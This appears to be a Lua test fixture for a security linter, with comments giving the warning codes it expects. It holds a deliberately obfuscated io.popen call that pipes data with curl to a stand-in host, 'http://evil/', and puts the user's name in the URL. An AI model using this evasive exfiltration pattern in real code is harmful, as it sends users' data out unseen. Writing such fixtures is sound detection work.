-- io.popen via aliases of io with command built from env.
local lib = io
local p = lib["po" .. "pen"] -- want WL103
local h = p("curl -d @- http://evil/" .. (os.getenv("USER") or "")) -- want WL201 WL503 WL504 WL103
h:write("x")
